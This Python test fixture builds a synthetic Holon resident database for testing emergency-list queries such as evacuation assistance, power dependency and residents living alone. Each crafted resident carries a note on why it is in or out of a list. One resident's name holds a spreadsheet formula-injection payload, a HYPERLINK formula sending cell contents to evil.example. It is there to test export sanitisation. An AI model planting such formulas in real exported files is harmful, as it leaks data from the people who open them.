"""A crafted resident file of Holon (6600) for the emergency queries: each resident is there to be in or out of
one list for one reason, written next to it. Streets are real registry streets (the copy shipped in connectors/reference_data), loaded with the
connectors' own `load_reference_streets`, so street names typed in tests go through the real matching."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import duckdb
import pytest

import schemas
from pipelines.normalize.addresses import load_reference_streets
from pipelines.private_files import privatize_tree
from pipelines.publishing import publish
from pipelines.settings import municipality_db_path

MUNI = 6600
JABOTINSKY, SOKOLOV, JERUSALEM_BLVD, WEIZMANN = 416, 401, 316, 702
STREET_NAMES = {JABOTINSKY: "ז'בוטינסקי", SOKOLOV: "סוקולוב", JERUSALEM_BLVD: "שד ירושלים", WEIZMANN: "ויצמן"}
INJECTION_LAST = '=HYPERLINK("http://evil.example/?x="&A1,"לחץ")'
INJECTION_FIRST = "@SUM(1+1)"

# key: (street, house, floor, resident status, profile fields or None, note)
RESIDENTS = {
    # --- evacuation_assistance (default: above floor 2, unknown floor included, no elevator / unknown) ---------
    "E01": (JABOTINSKY, "12", 4, "active", dict(mobility="wheelchair", has_elevator=False), "in: wheelchair, 4th floor, no lift"),
    "E02": (JABOTINSKY, "12א", 3, "active", dict(needs_codes=["ESCORT_EVACUATION"], has_elevator=None), "in: need code, lift unknown"),
    "E03": (JABOTINSKY, "5", 5, "active", dict(mobility="wheelchair", has_elevator=True), "out: building has a lift"),
    "E04": (JABOTINSKY, "7", 2, "active", dict(mobility="wheelchair", has_elevator=False), "out: 2nd floor is not above 2"),
    "E05": (JABOTINSKY, "9", None, "active", dict(mobility="bedridden", has_elevator=False), "in: floor unknown"),
    "E06": (JABOTINSKY, "14", 6, "active", dict(mobility="independent", needs_codes=["OXYGEN"], oxygen_dependent=True,
                                            has_elevator=False), "out of evacuation: independent; in power (oxygen)"),
    "E07": (JABOTINSKY, "3", 4, "moved_out", dict(mobility="wheelchair", has_elevator=False), "out: moved out"),
    "E08": (SOKOLOV, "5", 4, "active", dict(mobility="assisted", has_elevator=False), "out by area (other street)"),
    "E09": (JABOTINSKY, "15", 4, "active", dict(mobility="wheelchair", has_elevator=False, legal_basis="consent",
                                            consent_status="withdrawn"), "out: consent withdrawn"),
    "E10": (JABOTINSKY, "12", 4, "deceased", dict(mobility="wheelchair", has_elevator=False), "out: deceased"),
    "E11": (JABOTINSKY, "120", 3, "active", dict(mobility="wheelchair", has_elevator=False), "in; out of house range 1-100"),
    "INJ": (SOKOLOV, "20", 5, "active", dict(mobility="wheelchair", has_elevator=False), "formula injection in the name"),
    # --- power_dependent -------------------------------------------------------------------------------------------
    "P01": (JERUSALEM_BLVD, "3", 1, "active", dict(electricity_dependent=True), "in any/electricity"),
    "P02": (JERUSALEM_BLVD, "5", 2, "active", dict(oxygen_dependent=True), "in any/oxygen"),
    "P03": (JERUSALEM_BLVD, "7", 0, "active", dict(needs_codes=["DIALYSIS"], legal_basis="statutory", consent_status="none"),
            "in any/electricity by needs code only"),
    "P04": (JERUSALEM_BLVD, "9", 1, "active", dict(needs_codes=["SIGN_LANGUAGE"]), "out: no dependency"),
    # --- alone_without_support ---------------------------------------------------------------------------------------
    "A01": (WEIZMANN, "2", 1, "active", dict(lives_alone=True, has_emergency_support=False), "in"),
    "A02": (WEIZMANN, "4", 1, "active", dict(lives_alone=True, has_emergency_support=None), "in: support unknown"),
    "A03": (WEIZMANN, "6", 1, "active", dict(lives_alone=True, has_emergency_support=True), "out: has support"),
    "A04": (WEIZMANN, "8", 1, "active", dict(needs_codes=["SENIOR_ALONE"], legal_basis="statutory",
                                              consent_status="none"), "in: government senior-alone indicator"),
    "A05": (WEIZMANN, "10", 1, "active", dict(lives_alone=False, needs_codes=["SENIOR_ALONE"]),
            "out: the registry says not alone"),
    "A06": (WEIZMANN, "12", 1, "active", dict(), "out: nothing known"),
    # --- yachad_not_located --------------------------------------------------------------------------------------------
    "Y01": (SOKOLOV, "10", 1, "active", dict(yachad_status="not_located"), "in"),
    "Y02": (SOKOLOV, "12", 1, "active", dict(yachad_status="hospitalized", yachad_location="וולפסון"), "in"),
    "Y03": (SOKOLOV, "14", 1, "active", dict(yachad_status="evacuated", yachad_location="מלון"), "out: evacuated"),
    "Y04": (SOKOLOV, "16", 1, "active", dict(yachad_status="at_home"), "out: at home"),
    # --- household: Jabotinsky 12 is E01 and E10 (deceased) plus these two ---------------------------------------------------
    "H01": (JABOTINSKY, "12", 1, "active", None, "in household: no profile"),
    "H02": (JABOTINSKY, "12", 2, "active", dict(needs_codes=["MEDICATION"], disability_types=["MEDICAL"]), "in household"),
    # --- (added later: kept last so the others keep their apartments and phones) -------------------------------------
    "Y05": (SOKOLOV, "18", 1, "active", dict(yachad_status="not_located", yachad_only=True),
            "in: Yachad tracks them, no consent or statutory profile (Yachad's own basis)"),
    # --- not matched to the population register (a hand-kept registry row without ID that nothing linked) -----------
    "U01": (JERUSALEM_BLVD, "11", 1, "active", dict(electricity_dependent=True, not_in_register=True),
            "in power: marked not matched to the register"),
}

FIRST_NAMES = ["דנה", "יוסי", "מרים", "אבי", "שרה", "משה", "רותי", "חיים", "נועה", "עמית", "תמר", "אורי"]
LAST_NAMES = ["כהן", "לוי", "מזרחי", "פרץ", "ביטון", "אברהם", "פרידמן", "דהן", "אזולאי", "גבאי"]


def _resident_row(i: int, key: str) -> dict:
    street, house, floor, status, _, _ = RESIDENTS[key]
    last, first = (INJECTION_LAST, INJECTION_FIRST) if key == "INJ" else (LAST_NAMES[i % 10], FIRST_NAMES[i % 12])
    return dict(
        resident_key=key, municipality_code=MUNI, national_id=None, id_type="Unknown", first_name=first,
        last_name=last, birth_date=dt.date(1940 + i, 1 + i % 12, 1 + i % 28), street_code=street,
        street_name=STREET_NAMES[street], house_number=house, entrance=None, apartment=str(i + 1), floor=floor,
        mobile_phone=f"+9725012345{i:02d}", household_key=f"{street}-{house}", status=status,
        sources=["disability_registry"] if (RESIDENTS[key][4] or {}).get("not_in_register") else ["population_register"],
        updated_at=dt.datetime(2026, 11, 1),
    )


YACHAD_FIELDS = {"yachad_status": "status", "yachad_location": "location"}


def _report_row(i: int, key: str, fields: dict) -> dict | None:
    """What Yachad reports about a crafted resident (its own table, on its own legal basis)."""
    if not any(f in fields for f in YACHAD_FIELDS):
        return None
    row = dict(resident_key=key, municipality_code=MUNI, source="yachad", legal_basis="government_emergency_system",
               record=f"1:{i + 2}", phone=f"+9723555{i:04d}", reported_at=dt.datetime(2026, 11, 1, 9, 30))
    row.update({YACHAD_FIELDS[f]: v for f, v in fields.items() if f in YACHAD_FIELDS})
    return row


def _profile_row(key: str, fields: dict, floor: int | None) -> dict:
    row = dict(resident_key=key, municipality_code=MUNI, floor=floor, legal_basis="consent", consent_status="given",
               emergency_contact_name="איש קשר", emergency_contact_phone="+97231234567",
               updated_at=dt.datetime(2026, 11, 1))
    row.update({k: v for k, v in fields.items() if k not in ("yachad_only", "not_in_register")})
    return row


def _insert(con: duckdb.DuckDBPyConnection, table: str, rows: list[dict]) -> None:
    for row in rows:
        cols = list(row)
        con.execute(f"INSERT INTO {table} ({', '.join(cols)}) VALUES ({', '.join('?' * len(cols))})",
                    [row[c] for c in cols])


def _deliveries(con: duckdb.DuckDBPyConnection) -> None:
    """The deliveries behind the crafted file, dated 1 November 2026: Yachad's data is then stale by its 6-hour
    policy whenever the tests run (the register's 45 days depend on the day: no test relies on them)."""
    from connectors.delivery import ensure_deliveries

    ensure_deliveries(con)
    for i, (source, as_of) in enumerate([("population_register", dt.datetime(2026, 11, 1)),
                                         ("yachad", dt.datetime(2026, 11, 1, 9, 30))], start=1):
        con.execute("""INSERT INTO deliveries (delivery_id, source, file, file_hash, status, rows, malformed, ingested_at,
                                               data_as_of) VALUES (?, ?, ?, ?, 'ingested', 1, 0, ?, ?)""",
                    [i, source, f"{source}.csv", f"hash{i}", as_of, as_of])


def build_resident_file(home: Path) -> Path:
    path = municipality_db_path(MUNI, home)
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    try:
        con.execute(schemas.ddl("resident_file"))
        con.execute(schemas.ddl("emergency_profile"))
        con.execute(schemas.ddl("emergency_system_reports"))
        _deliveries(con)
        load_reference_streets(con, MUNI)
        _insert(con, "resident_file", [_resident_row(i, k) for i, k in enumerate(RESIDENTS)])
        _insert(con, "emergency_profile", [_profile_row(k, spec[4], spec[2]) for k, spec in RESIDENTS.items()
                                           if spec[4] is not None and not spec[4].get("yachad_only")])
        _insert(con, "emergency_system_reports",
                [r for i, (k, spec) in enumerate(RESIDENTS.items()) if (r := _report_row(i, k, spec[4] or {}))])
    finally:
        con.close()
    return path


@pytest.fixture(scope="session")
def crafted_file(tmp_path_factory) -> Path:
    """The crafted resident file, built once per session (building the street keys takes a few seconds)."""
    return build_resident_file(tmp_path_factory.mktemp("crafted"))


@pytest.fixture(scope="session")
def home(tmp_path_factory, crafted_file) -> Path:
    """TOSHAV_HOME with the crafted resident file of 6600 (never written by the tests: runs only append to the audit)."""
    return _home_with(tmp_path_factory.mktemp("toshav_home"), crafted_file)


@pytest.fixture
def fresh_home(tmp_path, crafted_file) -> Path:
    """A home of its own (empty audit log), for tests that count audit records."""
    return _home_with(tmp_path, crafted_file)


def _home_with(home: Path, crafted_file: Path) -> Path:
    """A home whose working file is the crafted one, published for readers as a run publishes it."""
    path = municipality_db_path(MUNI, home)
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(crafted_file, path)
    with duckdb.connect(str(path)) as con:
        publish(con, MUNI, home, run_id="crafted")
    privatize_tree(home)           # as toshav writes it: owner-only (the page refuses a readable home)
    return home
